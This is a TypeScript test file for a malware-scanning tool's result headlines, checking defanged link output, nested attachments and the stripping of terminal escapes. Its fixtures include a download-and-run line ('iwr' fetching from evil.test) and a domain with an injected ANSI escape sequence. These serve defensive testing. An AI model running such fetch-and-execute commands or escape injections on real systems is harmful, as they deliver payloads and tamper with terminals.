import type { Level } from '@assay/analyzers'
import { describe, expect, it } from 'vitest'
import { headlineLines, headlinesOf } from './headline.ts'
import { printJson, printMarkdown } from './print.ts'
import type { Scan, ScanObservable, ScanResult } from './results.ts'

const mail: ScanObservable = { dataType: 'file', path: '/a.eml', filename: 'a.eml', depth: 0 }
const zip = { dataType: 'file', path: '/1', filename: 'a.zip', kind: 'attachment' }
const script = { dataType: 'file', path: '/2', filename: 'run.js', kind: 'contains' }
const link = { dataType: 'url', data: 'https://evil.test/x', kind: 'link' }

const result = (
  observable: Omit<ScanObservable, 'depth'>,
  level: Level,
  rest: Partial<ScanResult> & { findings?: object[] } = {},
): ScanResult => ({
  observable: { depth: 1, ...observable },
  analyzer: 'Assay_Test',
  status: 'Success',
  level,
  taxonomies: [{ level, namespace: 'T', predicate: 'Found', value: 'x' }],
  full: { findings: rest.findings ?? [] },
  artifacts: [],
  ms: 1,
  ...rest,
})
const scanOf = (results: ScanResult[], skipped: Scan['skipped'] = []): Scan => ({
  results,
  skipped,
  ms: 1,
})
const blocked = {
  id: 'lists.blocked',
  level: 'malicious',
  explanation: 'It is on the block list “SOC”: evil.test',
  parameters: { list: 'SOC', entry: 'evil.test' },
}
const downloads = {
  id: 'script.download-run',
  level: 'suspicious',
  explanation: 'It loads something and runs it: x',
  parameters: { evidence: 'iwr https://evil.test/p' },
}

describe('the headline of a scan', () => {
  it('says what a mail leads to, with the way there, and nothing in it can be clicked', () => {
    const scan = scanOf([
      result(mail, 'info', { artifacts: [link] }),
      result(link, 'malicious', { analyzer: 'Assay_Lists', findings: [blocked] }),
    ])
    expect(headlineLines(scan)).toEqual([
      'a.eml: Its link leads to a host on your block list “SOC”',
      '  a.eml → link hxxps://evil[.]test/x → host evil[.]test',
    ])
    expect(printMarkdown(scan)).toContain('a.eml: Its link leads to a host on your block list')
    expect(printMarkdown(scan)).not.toContain('https://')
    expect(JSON.parse(printJson(scan)).headlines).toMatchObject([
      {
        filename: 'a.eml',
        text: 'Its link leads to a host on your block list “SOC”',
        level: 'malicious',
        ownLevel: 'none',
      },
    ])
  })

  it('follows files in files', () => {
    const scan = scanOf([
      result(mail, 'info', { artifacts: [zip] }),
      result(zip, 'info', { artifacts: [script] }),
      result(script, 'suspicious', { findings: [downloads] }),
    ])
    expect(headlineLines(scan)[0]).toBe(
      'a.eml: Likely malware delivery: its attachment a.zip contains the file run.js: downloads and executes code: iwr hxxps://evil[.]test/p',
    )
  })

  it.each<[string, Scan, string]>([
    [
      'nothing',
      scanOf([result(mail, 'info')]),
      'No verdict: 1 analyzer found nothing for or against it',
    ],
    [
      'left out',
      scanOf([result(mail, 'info', { incomplete: ['it ends too early'] })]),
      'No verdict; not examined: it ends too early',
    ],
    [
      'left out in its attachment',
      scanOf([
        result(mail, 'info', { artifacts: [zip] }),
        result(zip, 'info', { incomplete: ['encrypted'] }),
      ]),
      'No verdict; not examined: its attachment a.zip: encrypted',
    ],
    [
      'an attachment that was not followed',
      scanOf([result(mail, 'info', { artifacts: [zip] })]),
      'No verdict; not examined: its attachment a.zip was not analyzed',
    ],
    [
      'failed',
      scanOf([result(mail, 'info', { status: 'Failure', errorMessage: 'no\nmore' })]),
      'No verdict: 1 analyzer failed; not examined: Test failed (no)',
    ],
    [
      'no analyzer',
      scanOf([], [{ observable: mail, reason: 'no analyzer supports type x' }]),
      'Not analyzed: no enabled analyzer supports this type',
    ],
    [
      'too deep',
      scanOf([result(mail, 'info')], [{ observable: mail, reason: 'too deep' }]),
      'No verdict; not examined: too deep',
    ],
  ])('%s', (_, scan, text) => expect(headlinesOf(scan).map((one) => one.text)).toEqual([text]))

  it('of many names those that matter, in clean lines', () => {
    const many = Array.from({ length: 50 }, (_, at) =>
      result(
        { dataType: 'domain', data: `${at}\u001b[2J.test`, depth: 0 } as ScanObservable,
        at < 30 ? 'malicious' : 'info',
      ),
    )
    const lines = headlineLines(scanOf(many))
    expect(lines).toHaveLength(21)
    expect(lines.at(-1)).toBe('and 10 more')
    expect(lines.join('')).not.toContain('\u001b')
  })
})
